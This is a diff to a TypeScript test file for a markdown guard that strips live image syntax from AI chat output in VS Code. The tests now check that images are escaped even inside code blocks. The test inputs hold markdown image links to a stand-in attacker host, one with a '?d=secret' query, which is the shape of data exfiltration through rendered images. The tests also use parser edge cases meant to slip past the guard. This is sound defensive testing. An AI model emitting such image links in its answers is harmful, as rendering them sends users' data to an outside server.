@@ -1,8 +1,9 @@
 import * as assert from 'node:assert/strict';
 import { MarkdownGuard, guardMarkdown } from '../../../src/participant/safeMarkdown';
 
-// The guard between model output and VS Code's Chat view: no image syntax survives outside fenced
-// code, however the answer is cut into pieces; code keeps its text.
+// The guard between model output and VS Code's Chat view: no image syntax survives anywhere, code
+// included (a guard that tracks code blocks must agree with VS Code's parser, and one did not),
+// however the answer is cut into pieces.
 
 /** The guarded text when `text` arrives cut at `at`. */
 function splitAt(text: string, at: number): string {
@@ -29,22 +30,23 @@ describe('the Chat view markdown guard', () => {
     assert.match(out, /^Hi! /);
   });
 
-  it('leaves fenced code as it is, and escapes again after the fence closes', () => {
-    const text = '```rust\nlet v = vec![1, 2];\n```\n![x](http://evil.example)';
-    const out = guardMarkdown(text);
-    assert.match(out, /vec!\[1, 2\]/, 'code is unchanged');
-    const afterFence = out.slice(out.lastIndexOf('```\n') + '```\n'.length);
-    assert.equal(afterFence, '!\\[x](http://evil.example)');
-  });
-
-  it('does not count an indented fence as code: a later line can close its list item', () => {
-    const out = guardMarkdown('- item\n  ```\n![x](http://evil.example)');
-    assert.doesNotMatch(out, LIVE_IMAGE);
-  });
-
-  it('does not open a fence inside an HTML comment that a blank line does not end', () => {
-    const out = guardMarkdown('<!--\n\n```\n-->\n![x](http://evil.example)');
-    assert.doesNotMatch(out, LIVE_IMAGE);
+  it('escapes images in code too, so no disagreement about where code ends leaves one live', () => {
+    const cases = [
+      '```rust\nlet v = vec![1, 2];\n```\n![x](http://evil.example)',
+      // An indented opening fence that a column-0 fence closes, then an image.
+      '  ```\n```\n![x](https://evil.example/?d=secret)\n```',
+      // A lone carriage return ends a line for VS Code's parser.
+      '```\r![x](https://evil.example)\r```',
+      '- item\n  ```\n![x](http://evil.example)',
+      '<!--\n\n```\n-->\n![x](http://evil.example)',
+    ];
+    for (const text of cases) {
+      for (let at = 0; at <= text.length; at += 1) {
+        const out = splitAt(text, at);
+        assert.doesNotMatch(out, LIVE_IMAGE, `${JSON.stringify(text)} cut at ${at}: ${out}`);
+        assert.equal(out.replaceAll('!\\[', '!['), text, 'only the escapes are added');
+      }
+    }
   });
 
   it('holds a trailing "!" until the next piece, and gives it back at the end', () => {
